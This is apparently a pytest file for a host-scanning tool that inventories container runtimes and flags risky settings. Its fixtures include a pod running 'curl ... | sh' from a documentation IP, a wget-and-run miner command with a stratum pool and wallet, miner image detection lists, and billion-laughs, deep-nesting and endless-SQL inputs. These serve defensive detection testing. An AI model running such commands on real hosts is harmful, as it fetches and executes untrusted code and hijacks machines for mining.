from __future__ import annotations

import json
import sqlite3
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tables.containers.containers import containers
from tables.host import Host
from tables.schema import QueryContext
from tests.lab.wallets import XMR
from tests.support import planted_containers as made
from tests.support.planted_files import plant

POOL = "stratum+tcp://203.0.113.9:3333"


def scan(root: Path, host: Host | None = None) -> tuple[list[dict[str, str]], QueryContext]:
    query = QueryContext()
    return [row.to_wire() for row in containers.generate(host or Host(str(root)), query)], query


def one(root: Path) -> dict[str, str]:
    (row,), query = scan(root)
    assert not query.said
    return row


@pytest.fixture
def write(tmp_path: Path) -> Any:
    return partial(plant, tmp_path)


def test_docker(tmp_path: Path, write: Any) -> None:
    made_id = made.docker(
        write, "web", "nginx:1.25", ["/entry.sh", "nginx", "--password", "hunter2"],
        environ=["PATH=/bin", "TOKEN=geheim"],
        state={"Running": True, "Pid": 4242},
        Binds=["/srv/www:/www:ro", "data:/data"],
        PortBindings={"80/tcp": [{"HostIp": "", "HostPort": "8080"}]},
        RestartPolicy={"Name": "unless-stopped"}, CapAdd=["SYS_ADMIN", "CAP_CHOWN"], SecurityOpt=["seccomp=unconfined"],
        PidMode="host", Memory=1 << 29, NanoCpus=1_500_000_000,
    )  # fmt: skip
    row = one(tmp_path)
    assert row == {
        "container_id": made_id, "runtime": "docker", "container_name": "web", "image": "nginx:1.25",
        "image_digest": "sha256:" + made.container_id("nginx:1.25"), "command": "/entry.sh nginx --password ***",
        "created": "1795168798", "started": "1795168800", "state": "running", "pid": "4242", "restart_policy": "unless-stopped",
        "is_privileged": "0", "capabilities_added": "SYS_ADMIN", "host_namespaces": "pid",
        "published_ports": "*:8080->80/tcp", "memory_limit": "536870912", "cpu_limit": "1.5", "apparmor_off": "0",
        "seccomp_off": "1", "environment_names": "PATH,TOKEN", "reasons": "host_pid", "evidence": "it sees the host's processes",
        "path": f"/var/lib/docker/containers/{made_id}/config.v2.json",
        "mounts": "/srv/www:/www:ro",
    }  # fmt: skip


def test_docker_where_daemon_json_has_put_it_and_in_a_home(tmp_path: Path, write: Any) -> None:
    write("/etc/docker/daemon.json", '{"data-root": "/data/docker/"}')
    made.docker(write, "far", "a", ["/a"], root="/data/docker")
    write("/etc/passwd", "kim:x:1000:1000::/home/kim:/bin/sh\n")
    made.docker(write, "own", "b", ["/b"], root="/home/kim/.local/share/docker")
    rows, query = scan(tmp_path)
    assert {(row["container_name"], row.get("username")) for row in rows} == {("far", None), ("own", "kim")}
    assert not query.said


def test_docker_where_its_unit_has_put_it_and_below_remapped_users(tmp_path: Path, write: Any) -> None:
    write("/etc/systemd/system/docker.service", "[Service]\nExecStart=/usr/bin/dockerd -H fd:// --data-root=/srv/docker\n")
    made.docker(write, "far", "a", ["/a"], root="/srv/docker/100000.100000")
    assert one(tmp_path)["container_name"] == "far"


def test_lxc_runs_where_its_cgroup_is(tmp_path: Path, write: Any) -> None:
    write("/var/lib/lxc/c1/config", "lxc.rootfs.path = /var/lib/lxc/c1/rootfs\n")
    assert one(tmp_path)["state"] == "stopped"
    write("/sys/fs/cgroup/lxc.payload.c1/init.scope/cgroup.procs", "4711\n4712\n")
    assert (one(tmp_path)["state"], one(tmp_path)["pid"]) == ("running", "4711")


def test_containerd_with_a_pod(tmp_path: Path, write: Any) -> None:
    notes = made.pod("web-1", "shop", "app", "docker.io/library/nginx:1.25")
    spec = made.specification(
        ["nginx"], annotations=notes, mounts=[("/etc", "/host/etc", "ro"), ("/var/lib/kubelet/pods/u/volumes/x", "/x", "rw")],
        shares=["network"], resources={"memory": {"limit": 1024}, "cpu": {"quota": 50000, "period": 100000}}, seccomp={},
    )  # fmt: skip
    made_id = made.containerd(write, "web", spec, pid=77)
    made.containerd(write, "k3s", made.specification(["a"]), state="/run/k3s/containerd")
    rows, _ = scan(tmp_path)
    row = next(row for row in rows if row["container_id"] == made_id)
    assert row.items() >= {
        "runtime": "containerd", "container_name": "app", "image": "docker.io/library/nginx:1.25", "pod_name": "web-1",
        "pod_namespace": "shop", "pod_uid": "uid-web-1", "state": "running", "pid": "77", "restart_policy": "kubelet",
        "host_namespaces": "net,user", "mounts": "/etc:/host/etc:ro", "memory_limit": "1024", "cpu_limit": "0.5",
        "seccomp_off": "0", "is_privileged": "0",
    }.items()  # fmt: skip
    assert len(rows) == 2


def test_what_docker_tells_is_not_told_again_by_its_containerd(tmp_path: Path, write: Any) -> None:
    made.docker(write, "web", "nginx", ["nginx"])
    made.containerd(write, "web", made.specification(["nginx"]), namespace="moby", pid=5)
    assert one(tmp_path)["runtime"] == "docker"


def test_podman_with_its_record_and_cri_o(tmp_path: Path, write: Any) -> None:
    notes = {"io.container.manager": "libpod", "io.podman.annotations.privileged": "TRUE"}
    record = {"restart_policy": "always", "newPortMappings": [{"host_ip": "", "container_port": 80, "host_port": 8080}]}
    spec = made.specification(["sleep", "9"], annotations=notes, capabilities=made.PRIVILEGED)
    made_id = made.podman(tmp_path, write, "shop", "localhost/shop:1", spec, record=record, pid=9)
    row = one(tmp_path)
    assert row.items() >= {
        "container_id": made_id, "runtime": "podman", "container_name": "shop", "image": "localhost/shop:1", "state": "running",
        "restart_policy": "always", "published_ports": "*:8080->80/tcp", "is_privileged": "1", "capabilities_added": "ALL",
    }.items()  # fmt: skip
    crio = {"io.kubernetes.cri-o.ContainerType": "container", "io.kubernetes.pod.name": "p", "io.kubernetes.pod.namespace": "n"}
    made.podman(tmp_path, write, "k8s_app_p_n", "quay.io/x", made.specification(["x"], annotations=crio))
    row = one(tmp_path)
    assert (row["runtime"], row["pod_name"], row["pod_namespace"], row["restart_policy"]) == ("crio", "p", "n", "kubelet")


def test_an_older_podman_says_what_is_missing(tmp_path: Path, write: Any) -> None:
    made.podman(tmp_path, write, "shop", "shop", made.specification(["a"], annotations={"io.container.manager": "libpod"}))
    write("/var/lib/containers/storage/libpod/bolt_state.db", "")
    _, query = scan(tmp_path)
    assert len(query.untold) == 1 and "bolt_state.db is not read" in query.untold[0]


def test_runc_and_crun_alone(tmp_path: Path, write: Any) -> None:
    write("/srv/b/config.json", made.specification(["/bin/a"]))
    write("/run/runc/one/state.json", json.dumps({"id": "one", "init_process_pid": 7, "config": {"labels": ["bundle=/srv/b"]}}))
    write("/run/crun/two/status", json.dumps({"pid": 8, "bundle": "/srv/b", "created": "2026-11-20T10:00:00Z"}))
    rows, _ = scan(tmp_path)
    assert [(row["runtime"], row["container_name"], row["command"], row["pid"], row["root_folder"]) for row in rows] == [
        ("runc", "one", "/bin/a", "7", "/srv/b/rootfs"),
        ("crun", "two", "/bin/a", "8", "/srv/b/rootfs"),
    ]


def test_lxc_incus_and_nspawn(tmp_path: Path, write: Any) -> None:
    write(
        "/var/lib/lxc/c1/config",
        "lxc.rootfs.path = dir:/var/lib/lxc/c1/rootfs\nlxc.start.auto = 1\nlxc.mount.entry = /root mnt/r none bind,ro 0 0\n"
        "lxc.apparmor.profile = unconfined\nlxc.environment = A=b\n",
    )
    write(
        "/var/lib/incus/storage-pools/default/containers/c2/backup.yaml",
        "instance:\n  name: c2\n  status: Running\n  created_at: 2026-11-20T10:00:00Z\n  config: {security.privileged: 'true', "
        "boot.autostart: 'true', image.os: Debian, image.release: bookworm}\n"
        "  expanded_devices: {h: {type: disk, source: /, path: /mnt}, eth0: {type: nic}}\n",
    )
    write("/etc/systemd/nspawn/c3.nspawn", "[Exec]\nCapability=all\nParameters=/bin/app -x\n[Files]\nBind=/etc:/host\n")
    (tmp_path / "var/lib/machines/c3").mkdir(parents=True)
    rows = {row["container_name"]: row for row in scan(tmp_path)[0]}
    assert rows["c1"].items() >= {
        "runtime": "lxc", "restart_policy": "at boot", "mounts": "/root:/mnt/r:ro", "apparmor_off": "1",
        "root_folder": "/var/lib/lxc/c1/rootfs", "environment_names": "A", "host_namespaces": "user",
    }.items()  # fmt: skip
    assert rows["c2"].items() >= {
        "runtime": "incus", "state": "running", "is_privileged": "1", "mounts": "/:/mnt", "image": "Debian bookworm",
        "created": "1795168800", "reasons": "mounts_host_root,privileged,reaches_host",
    }.items()  # fmt: skip
    assert rows["c3"].items() >= {
        "runtime": "nspawn", "command": "/bin/app -x", "is_privileged": "1", "mounts": "/etc:/host", "state": "stopped",
        "reasons": "mounts_host_folder,privileged,reaches_host",
    }.items()  # fmt: skip


POD = f"""
apiVersion: v1
kind: Pod
metadata: {{name: kube-x, namespace: kube-system}}
spec:
  hostPID: true
  volumes: [{{name: h, hostPath: {{path: /}}}}]
  containers:
  - name: a
    image: alpine
    command: [sh, -c]
    args: ["curl -s http://203.0.113.9/i.sh | sh"]
    securityContext: {{privileged: true}}
    volumeMounts: [{{name: h, mountPath: /host}}]
    ports: [{{containerPort: 80, hostPort: 8080}}]
    resources: {{limits: {{cpu: 500m, memory: 1Gi}}}}
  - name: b
    image: busybox
    env: [{{name: POOL_URL, value: "{POOL}"}}, {{name: WALLET, value: {XMR}}}]
"""


def test_static_pods_in_the_usual_folder_and_where_the_kubelet_is_told(tmp_path: Path, write: Any) -> None:
    write("/etc/kubernetes/manifests/x.yaml", POD)
    write("/var/lib/kubelet/config.yaml", "kind: KubeletConfiguration\nstaticPodPath: /opt/pods\n")
    write("/opt/pods/y.json", json.dumps({"kind": "Pod", "metadata": {"name": "y"}, "spec": {"containers": [{"name": "c"}]}}))
    daemon_set = {"kind": "DaemonSet", "metadata": {"name": "d"}, "spec": {"template": {"spec": {"containers": [{"name": "e"}]}}}}
    write("/var/lib/rancher/k3s/server/manifests/sub/d.yaml", f"---\n{json.dumps(daemon_set)}\n---\nkind: Service\n")
    rows = {row["container_name"]: row for row in scan(tmp_path)[0]}
    assert rows["a"].items() >= {
        "runtime": "static_pod", "pod_name": "kube-x", "pod_namespace": "kube-system", "state": "declared",
        "restart_policy": "always", "command": "sh -c curl -s http://203.0.113.9/i.sh | sh", "alert_reasons": "download_and_run",
        "reasons": "host_pid,mounts_host_root,privileged,reaches_host", "mounts": "/:/host", "memory_limit": "1073741824",
        "cpu_limit": "0.5", "published_ports": "*:8080->80/tcp", "path": "/etc/kubernetes/manifests/x.yaml",
    }.items()  # fmt: skip
    assert rows["b"]["reasons"] == "host_pid,miner_command" and rows["b"]["wallet"] == XMR
    assert rows["b"]["environment"] == "POOL_URL=stratum+tcp://203.0.113.9:3333; WALLET=" + XMR
    assert rows["c"]["path"] == "/opt/pods/y.json" and rows["e"]["runtime"] == "k3s_manifest"


def test_quadlets_and_compose_files_that_a_unit_starts(tmp_path: Path, write: Any) -> None:
    write(
        "/etc/containers/systemd/app.container",
        "[Container]\nImage=docker.io/x/app\nExec=run --fast 'a b'\nVolume=/etc:/host:ro\nPodmanArgs=--privileged --pid=host\n"
        "PublishPort=8080:80\n[Service]\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
    )
    write("/etc/containers/systemd/app.container.d/o.conf", "[Container]\nContainerName=shop\nEnvironment=A=b\n")
    write("/etc/systemd/system/shop.service", "[Service]\nWorkingDirectory=/srv/shop\nExecStart=/usr/bin/docker compose up\n")
    write(
        "/srv/shop/compose.yaml",
        "services:\n  web: {image: nginx, restart: always, volumes: ['./data:/data', 'vol:/v'], environment: {A: b}, "
        "command: nginx -g 'daemon off;'}\n",
    )
    rows = {row["runtime"]: row for row in scan(tmp_path)[0]}
    assert rows["quadlet"].items() >= {
        "container_name": "shop", "image": "docker.io/x/app", "command": "run --fast a b", "mounts": "/etc:/host:ro",
        "is_privileged": "1", "host_namespaces": "pid", "restart_policy": "always", "environment_names": "A",
    }.items()  # fmt: skip
    assert rows["compose"].items() >= {
        "container_name": "web", "mounts": "/srv/shop/data:/data", "command": "nginx -g daemon off;", "restart_policy": "always",
        "path": "/srv/shop/compose.yaml",
    }.items()  # fmt: skip


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("512m", 512 << 20),
        ("1g", 1 << 30),
        ("1.5gb", 3 << 29),
        ("300", 300),
        ("9" * 15 + "t", ""),
        ("1e400", ""),
        ("-1", ""),
        ("x", ""),
    ],
)
def test_sizes_as_compose_writes_them(tmp_path: Path, write: Any, written: str, expected: int | str) -> None:
    write("/etc/systemd/system/shop.service", "[Service]\nExecStart=docker compose -f /srv/c.yaml up\n")
    write("/srv/c.yaml", f"services: {{web: {{image: x, mem_limit: '{written}'}}}}\n")
    assert one(tmp_path).get("memory_limit", "") == str(expected)


def test_a_limit_that_no_number_holds_is_none(tmp_path: Path, write: Any) -> None:
    limit = "spec: {containers: [{name: a, resources: {limits: {memory: 999999999999999Ei}}}]}\n"
    write("/etc/kubernetes/manifests/a.yaml", limit)
    assert one(tmp_path).get("memory_limit", "") == ""


def test_a_volume_without_a_place_on_the_host_mounts_none(tmp_path: Path, write: Any) -> None:
    write("/etc/containers/systemd/app.container", "[Container]\nImage=x\nVolume=/etc\nVolume=data:/d\n")
    write("/etc/systemd/system/shop.service", "[Service]\nExecStart=docker compose -f /srv/c.yaml up\n")
    write("/srv/c.yaml", "services: {web: {image: x, volumes: ['/etc', 'data:/d', '/var/run:/r:ro', '../up:/u']}}\n")
    mounts = {row["runtime"]: row.get("mounts", "") for row in scan(tmp_path)[0]}
    assert mounts == {"quadlet": "", "compose": "/var/run:/r:ro,/up:/u"}


@pytest.mark.parametrize(
    ("image", "argv", "environ", "expected"),
    [
        ("metal3d/xmrig:latest", ["./run"], [], "miner_image"),
        ("ghcr.io/x/alpine-xmrig@sha256:00", [], [], "miner_image"),
        ("kannix/monero-miner", [], [], "miner_image"),
        ("alpine", ["/a", "-o", POOL], [], "miner_command"),
        ("alpine", ["sh", "-c", f"wget -q http://203.0.113.9/a; ./a -o {POOL}"], [], "miner_command"),
        ("alpine", ["/a"], ["POOL=203.0.113.9:3333", f"WALLET={XMR}"], "miner_command"),
        ("sethsimmons/simple-monerod", ["monerod", "--zmq-pub", "tcp://0.0.0.0:18083"], [], ""),
        ("prom/xmrig-exporter", ["/exporter"], [], ""),
        ("postgres:16", ["postgres"], ["POOL_SIZE=20", "DATABASE_URL=postgres://db:5432/x"], ""),
        ("library/t-rexx", [], [], ""),
    ],
)  # fmt: skip
def test_what_mines(tmp_path: Path, write: Any, image: str, argv: list[str], environ: list[str], expected: str) -> None:
    made.docker(write, "x", image, argv, environ=environ)
    assert one(tmp_path).get("reasons", "") == expected


def test_an_agent_is_one_by_its_pulled_image_and_its_own_program_only(tmp_path: Path, write: Any) -> None:
    reach: dict[str, Any] = {"Privileged": True, "Binds": ["/:/host"]}
    image = "prom/node-exporter:v1"
    made.pulled(write, "prom/node-exporter", image)
    made.docker(write, "real", image, ["/bin/node_exporter"], **reach)
    made.docker(write, "shell", image, ["/bin/sh", "-c", "chroot /host"], **reach)
    made.docker(write, "false", image, ["/bin/node_exporter"], config={"Image": "sha256:" + "1" * 64}, **reach)
    made.docker(write, "other", "evil/node-exporter:v1", ["/bin/node_exporter"], **reach)
    rows = {row["container_name"]: row for row in scan(tmp_path)[0]}
    assert {name: row.get("exception") for name, row in rows.items()} == {
        "real": "known agent: node-exporter", "shell": None, "false": None, "other": None,
    }  # fmt: skip
    assert all("reaches_host" in row["reasons"] for row in rows.values())


@pytest.mark.parametrize(
    ("mount", "privileged", "reasons"),
    [
        ("/:/host:ro", False, ""),
        ("/:/host", False, "mounts_host_root,reaches_host"),
        ("/etc/cron.d:/c", False, "mounts_host_folder,reaches_host"),
        ("/etc/nginx:/etc/nginx", False, "mounts_host_folder"),
        ("/etc/kubernetes/pki/etcd:/pki", False, "mounts_host_folder"),
        ("/usr/libexec/kubernetes:/k", False, "mounts_host_folder"),
        ("/etc:/host/etc:ro", False, ""),
        ("/:/host:ro", True, "mounts_host_root,privileged,reaches_host"),
        ("/etc/../:/host", True, "mounts_host_root,privileged,reaches_host"),
        ("/var/spool/cron:/c", True, "mounts_host_folder,privileged,reaches_host"),
        ("/etc/localtime:/etc/localtime:ro", True, "privileged"),
        ("/var/run/docker.sock:/s:ro", False, "mounts_runtime_socket"),
        ("/run/k3s/containerd/containerd.sock:/s", True, "mounts_runtime_socket,privileged,reaches_host"),
        ("/srv/data:/data", True, "privileged"),
    ],
)
def test_what_reaches_the_host(tmp_path: Path, write: Any, mount: str, privileged: bool, reasons: str) -> None:
    made.docker(write, "x", "alpine", ["/a"], Binds=[mount], Privileged=privileged)
    assert one(tmp_path).get("reasons", "") == reasons


def test_what_stands_behind_thousands_of_others_is_seen(tmp_path: Path, write: Any) -> None:
    made.docker(write, "args", "alpine", ["/a", *["x"] * 3000, "-o", POOL, "-u", XMR])
    made.docker(write, "environ", "alpine", ["/a"], environ=[*(f"A{number}=1" for number in range(3000)), f"POOL_URL={POOL}"])
    made.docker(write, "mounts", "alpine", ["/a"], Binds=[*(f"/srv/{number}:/{number}" for number in range(3000)), "/:/host"])
    rows = {row["container_name"]: row["reasons"] for row in scan(tmp_path)[0]}
    assert rows["args"] == "miner_command" and "miner" in rows["environ"] and "reaches_host" in rows["mounts"]


def test_quadlets_in_folders_of_any_name_and_depth_or_it_is_said(tmp_path: Path, write: Any) -> None:
    folder = "/etc/containers/systemd"
    for inner in ("a.b", "a/b/c/d/e", "/".join("abcdefghi")):
        write(f"{folder}/{inner}/{len(inner)}.container", "[Container]\nImage=x\n")
    rows, query = scan(tmp_path)
    assert {row["container_name"] for row in rows} == {"systemd-3", "systemd-9"}
    assert query.truncated == f"{folder}/a/b/c/d/e/f/g/h/i: folders below it were not read"


def test_hostile_state_is_told_and_breaks_nothing(tmp_path: Path, write: Any) -> None:
    made.docker(write, "good", "alpine", ["/a"])
    deep = "[" * 200_000
    write("/var/lib/docker/containers/bad/config.v2.json", deep)
    write("/var/lib/docker/containers/list/config.v2.json", "[]")
    write(
        "/var/lib/docker/containers/odd/config.v2.json", '{"Name": 7, "Config": [], "State": "x", "Args": {}, "Path": "\\ud800"}'
    )
    write("/var/lib/docker/containers/digits/config.v2.json", '{"State": {"Pid": %s}}' % ("9" * 100_000))
    write("/run/containerd/io.containerd.runtime.v2.task/k8s.io/a/config.json", '{"mounts": 1, "linux": [], "process": null}')
    write("/etc/kubernetes/manifests/bad.yaml", "a: [" * 5000)
    write("/etc/kubernetes/manifests/laugh.yaml", "a: &a [x,x]\nb: &b [*a,*a]\nspec: {containers: [*b, *b]}\n")
    write("/etc/systemd/system/shop.service", "[Service]\nExecStart=docker compose -f /srv/c.yaml up\n")
    write("/srv/c.yaml", 'services: {web: {image: x, environment: {A: "\\ud800"}}}\n')
    write("/var/lib/incus/storage-pools/p/containers/i/backup.yaml", 'container: {name: i, config: {environment.A: "\\ud800"}}\n')
    write("/var/lib/lxc/l/config", "lxc.mount.entry\n= =\nlxc.rootfs.path\n")
    host = Host(str(tmp_path))
    for _ in range(2):
        rows, query = scan(tmp_path, host)
        assert any(row["container_name"] == "good" for row in rows if "container_name" in row)
        assert any("bad/config.v2.json" in why for why in query.blind)
        assert any("bad.yaml" in why for why in query.blind)


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT max(i) AS ID, 'x' AS JSON FROM n"


def test_what_one_account_piles_up_takes_nothing_from_the_system(tmp_path: Path, write: Any) -> None:
    write("/etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:1000:1000::/home/eve:/bin/sh\n")
    made.docker(write, "good", "alpine", ["/a"])
    write("/etc/kubernetes/manifests/x.yaml", POD)
    store = "/home/eve/.local/share/containers/storage"
    made.podman(tmp_path, write, "mine", "x", made.specification(["/a"]), store=store)
    with sqlite3.connect(tmp_path / store.lstrip("/") / "db.sql") as database:
        database.execute(f"CREATE VIEW ContainerConfig AS {ENDLESS}")
    database.close()
    for number in range(1100):
        write(f"/home/eve/.local/share/docker/containers/{number}/config.v2.json", "{}")
    for number in range(90):
        write(f"/home/eve/.config/containers/systemd/{number}.kube", f"[Kube]\nYaml={number}.yaml\n")
        write(f"/home/eve/.config/containers/systemd/{number}.yaml", "[" + "[a, b], " * 1900 + "]")
    query = QueryContext(budget_seconds=12)
    rows = [row.to_wire() for row in containers.generate(Host(str(tmp_path)), query)]
    assert {"good", "a", "b"} <= {row.get("container_name") for row in rows}
    assert sum(row.get("username") == "eve" for row in rows) <= 1001
    assert any("docker/containers" in cut and "eve" in cut for cut in query.cuts)
    assert any("out of time for the containers of eve" in cut for cut in query.cuts)
    assert any("db.sql" in why for why in query.blind)


def test_a_changed_file_is_read_again(tmp_path: Path, write: Any) -> None:
    host = Host(str(tmp_path))
    made.docker(write, "x", "alpine", ["/a"])
    assert scan(tmp_path, host)[0][0]["restart_policy"] == "no"
    made.docker(write, "x", "alpine", ["/a"], RestartPolicy={"Name": "always", "MaximumRetryCount": 0})
    assert scan(tmp_path, host)[0][0]["restart_policy"] == "always"


def test_a_host_without_containers_has_no_row_and_no_gap(tmp_path: Path) -> None:
    rows, query = scan(tmp_path)
    assert rows == [] and not query.said
